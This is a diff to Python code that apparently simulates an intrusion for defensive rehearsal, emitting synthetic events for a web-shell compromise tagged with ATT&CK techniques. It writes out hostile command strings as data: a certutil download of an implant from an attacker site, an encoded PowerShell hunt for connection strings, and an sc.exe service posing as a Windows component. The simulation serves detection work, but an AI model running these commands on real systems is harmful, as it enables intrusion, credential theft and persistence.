@@ -16,10 +16,10 @@ from tocsin.rehearse.machine import SYSTEM32, system
 from tocsin.rehearse.rhythm import DAY_US, day_of
 from tocsin.rehearse.scene import Scene
 from tocsin.rehearse.stories import mailbox, spread, taking
-from tocsin.rehearse.stories.hold import MINUTE, Hold, agent, calling, either, keeps, post
+from tocsin.rehearse.stories.hold import MINUTE, Hold, agent, calling, commands, either, keeps, post
 from tocsin.rehearse.stories.means import at_work, calls_home, means, typed
 from tocsin.rehearse.stories.profile import Profile
-from tocsin.rehearse.stories.story import Story, working_day
+from tocsin.rehearse.stories.story import Story
 from tocsin.rehearse.world import Body
 
 _SHELL_PATH: Final = "C:\\inetpub\\wwwroot\\submissions\\images\\resize.aspx"
@@ -43,8 +43,8 @@ def tell(scene: Scene, profile: Profile, seed: int) -> tuple[Story, Iterator[int
 
 def _acts(scene: Scene, story: Story, profile: Profile, body: Body) -> Iterator[int]:
     dice = story.dice
-    first = working_day(scene, 0.12)
-    span = working_day(scene, 0.9) - first
+    first = scene.world.calendar.working_day(0.12)
+    span = scene.world.calendar.working_day(0.9) - first
 
     now = 0
 
@@ -79,14 +79,17 @@ def _acts(scene: Scene, story: Story, profile: Profile, body: Body) -> Iterator[
     spread.takes_directory(scene, story, hold, now)
     for share in (0.44, 0.5, 0.56):
         for part in range(3):
-            yield (now := moment(share + 0.015 * part))
+            now = moment(share + 0.015 * part)
+            if part:
+                now = _unattended(scene, now, dice)
+            yield now
             taking.gathers(scene, story, hold, now, part)
         yield (now := now + 50 * MINUTE)
         taking.packs(scene, story, hold, now)
         _uses_shell(scene, story, hold, now + 30 * MINUTE)
     for number in range(9):
         yield (now := moment(0.6 + 0.03 * number))
-        if number in {2, 5}:
+        if number in {2, 4, 6}:
             mailbox.reads(scene, story, hold, now - 30 * MINUTE, number)
         taking.sends(scene, story, hold, now)
         _keeps_in_touch(scene, story, hold, now + 40 * MINUTE)
@@ -100,6 +103,12 @@ def _weekday(day_us: int) -> int:
     """The day itself, or the Monday after it."""
     ahead = 7 - day_of(day_us).weekday()
     return day_us + (ahead if ahead < 3 else 0) * DAY_US
+
+
+def _unattended(scene: Scene, ts_us: int, dice: Dice) -> int:
+    """Hours later, by a job that they leave behind; not in a night in which machines are restarted."""
+    later = ts_us + int(dice.between(3, 15) * 60 * MINUTE)
+    return ts_us if scene.world.calendar.patches(day_of(later)) else later
 
 
 def _looks(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
@@ -141,7 +150,10 @@ def _enters(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
             sent=184_300,
             received=312,
         )
-        typed(scene, hold.web, ts_us + 700_000, pool, "whoami")
+        shell = processes.once(
+            scene, hold.web, ts_us + 700_000, SYSTEM32 + "cmd.exe", '"cmd.exe" /c whoami > C:\\Windows\\Temp\\o', pool
+        )
+        typed(scene, hold.web, ts_us + 760_000, shell, "whoami", lasts_s=0.2)
     if not (story.profile and story.profile.does("T1505.003")):
         return
     at = ts_us + 4 * MINUTE
@@ -149,7 +161,7 @@ def _enters(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
         post(scene, story, hold, at, "/submissions/Telerik.Web.UI.WebResource.axd?type=rau", sent=191_770, received=312)
         processes.writes(scene, pool, at + 600_000, _SHELL_PATH)
         post(scene, story, hold, at + 40_000_000, _TARGET, sent=310, received=96)
-        typed(scene, hold.web, at + 40_400_000, pool, "echo [S]&cd&echo [E]", image=SYSTEM32 + "cmd.exe", through="")
+        commands(scene, hold, at + 40_400_000, "echo ok")
 
 
 def _looks_around(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
@@ -175,69 +187,65 @@ def _looks_around(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
                 post(
                     scene, story, hold, at, _TARGET, sent=story.dice.size(420, 0.2), received=story.dice.size(3000, 0.8)
                 )
-                if line.startswith("dir"):
-                    typed(scene, hold.web, at + 400_000, hold.pool, line, image=SYSTEM32 + "cmd.exe", through="")
-                else:
-                    typed(scene, hold.web, at + 400_000, hold.pool, line)
+                commands(scene, hold, at + 400_000, line)
         at += 40_000_000 + story.dice.below(200_000_000)
 
 
 def _settles(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
     """A program of their own comes over, and a service that starts it."""
-    machine, pool, site = hold.web, hold.pool, hold.means.home[0]
-    host, account, profile = machine.host, pool.session.account, story.profile
+    machine, pool, profile = hold.web, hold.pool, story.profile
+    host, account = machine.host, pool.session.account
     assert profile
+    site = hold.means.home[0]
     what = f"{profile.software.get('implant', 'A program of theirs')} is fetched under a name like Windows' own"
     with story.step(scene, ts_us, "T1105", what, host=host, account=account):
         line = f"certutil -urlcache -split -f https://{site.name}/kb5039217.cab {_IMPLANT}"
         post(scene, story, hold, ts_us, _TARGET, sent=690, received=410)
-        tool = typed(scene, machine, ts_us + 400_000, pool, line)
+        tool = commands(scene, hold, ts_us + 400_000, line, lasts_s=6)
         calls_home(scene, story, tool, site, ts_us + 700_000, received=742_400)
         processes.writes(scene, tool, ts_us + 1_900_000, _IMPLANT)
-    if profile.does("T1059.001"):
-        at = ts_us + 3 * MINUTE
-        search = "Get-ChildItem C:\\inetpub -Recurse -Include web.config | Select-String 'connectionString'"
-        text = f"{search} | Out-File C:\\Windows\\Temp\\wmi.tmp"
-        with story.step(
-            scene,
-            at,
-            "T1059.001 T1552.001",
-            "PowerShell looks for passwords in configurations",
-            host=host,
-            account=account,
-        ):
-            post(scene, story, hold, at, _TARGET, sent=1100, received=210)
-            image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
-            run = typed(
-                scene, machine, at + 400_000, pool, f"powershell -nop -ep bypass -enc {encoded(text)}", image=image
-            )
-            processes.script(scene, run, at + 900_000, text)
-            processes.writes(scene, run, at + 1_400_000, "C:\\Windows\\Temp\\wmi.tmp")
+    if profile.does("T1059.001 T1552.001"):
+        _searches(scene, story, hold, ts_us + 3 * MINUTE)
     at = ts_us + 11 * MINUTE
     if profile.does("T1543.003"):
-        name = "Windows Load Balancing Service"
-        with story.step(scene, at, "T1543.003 T1036.005", "A service starts their program", host=host, account=account):
+        what = "A service starts their program"
+        with story.step(scene, at, "T1543.003 T1036.005", what, host=host, account=account):
             post(scene, story, hold, at, _TARGET, sent=520, received=130)
-            # The worker's account may not do this: a weakness of the preview service makes it SYSTEM.
-            shell = processes.once(
-                scene, machine, at + 300_000, SYSTEM32 + "cmd.exe", '"cmd.exe" /c C:\\Windows\\Temp\\p.exe', pool
-            )
-            session = system(machine)
-            line = f'sc.exe create wlbsvc binPath= "{_IMPLANT}" DisplayName= "{name}" start= auto'
-            processes.once(scene, machine, at + 900_000, SYSTEM32 + "sc.exe", line, shell, session, integrity="System")
-            changes.service(scene, machine, at + 1_100_000, session, name, _IMPLANT, automatic=True)
-            processes.sets(
-                scene,
-                machine.core["services"],
-                at + 1_200_000,
-                "HKLM\\System\\CurrentControlSet\\Services\\wlbsvc\\ImagePath",
-                _IMPLANT,
-            )
-            hold.implant = processes.start(scene, machine, at + 2_000_000, _IMPLANT, _IMPLANT, machine.core["services"])
+            _serves(scene, hold, at)
         keeps(scene, story, hold, "implant", "services")
     else:
         with story.step(scene, at, "T1059.003", "Their program is started by hand", host=host, account=account):
             hold.implant = processes.start(scene, machine, at, _IMPLANT, _IMPLANT, pool)
+
+
+def _searches(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
+    """PowerShell looks through configurations."""
+    search = "Get-ChildItem C:\\inetpub -Recurse -Include web.config | Select-String 'connectionString'"
+    text = f"{search} | Out-File C:\\Windows\\Temp\\wmi.tmp"
+    what = "PowerShell looks for passwords in configurations"
+    host, account = hold.web.host, hold.pool.session.account
+    with story.step(scene, ts_us, "T1059.001 T1552.001", what, host=host, account=account):
+        post(scene, story, hold, ts_us, _TARGET, sent=1100, received=210)
+        image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
+        line = f"powershell -nop -ep bypass -enc {encoded(text)}"
+        run = commands(scene, hold, ts_us + 400_000, line, image=image, lasts_s=7)
+        processes.script(scene, run, ts_us + 900_000, text)
+        processes.writes(scene, run, ts_us + 1_400_000, "C:\\Windows\\Temp\\wmi.tmp")
+
+
+def _serves(scene: Scene, hold: Hold, ts_us: int) -> None:
+    """A service for their program, made as SYSTEM: a weakness of the preview service lets the worker become it."""
+    machine, session, name = hold.web, system(hold.web), "Windows Load Balancing Service"
+    image, owner = SYSTEM32 + "cmd.exe", machine.core["services"]
+    line = '"cmd.exe" /c C:\\Windows\\Temp\\p.exe'
+    shell = processes.once(scene, machine, ts_us + 300_000, image, line, hold.pool, lasts_s=4)
+    line = f'sc.exe create wlbsvc binPath= "{_IMPLANT}" DisplayName= "{name}" start= auto'
+    image = SYSTEM32 + "sc.exe"
+    processes.once(scene, machine, ts_us + 900_000, image, line, shell, session, integrity="System")
+    changes.service(scene, machine, ts_us + 1_100_000, session, name, _IMPLANT, automatic=True)
+    key = "HKLM\\System\\CurrentControlSet\\Services\\wlbsvc\\ImagePath"
+    processes.sets(scene, owner, ts_us + 1_200_000, key, _IMPLANT)
+    hold.implant = processes.start(scene, machine, ts_us + 2_000_000, _IMPLANT, _IMPLANT, owner)
 
 
 def _uses_shell(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
@@ -248,9 +256,7 @@ def _uses_shell(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
     with story.step(scene, ts_us, "T1505.003", what, host=hold.web.host, again="shell"):
         line = story.dice.one(("dir C:\\inetpub\\wwwroot\\submissions\\images", "whoami", "date /t"))
         post(scene, story, hold, ts_us, _TARGET, sent=story.dice.size(300, 0.3), received=story.dice.size(900, 0.6))
-        through = "cmd" if line == "whoami" else ""
-        image = "" if through else SYSTEM32 + "cmd.exe"
-        typed(scene, hold.web, ts_us + 400_000, hold.pool, line, image=image, through=through)
+        commands(scene, hold, ts_us + 400_000, line)
 
 
 def _keeps_in_touch(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
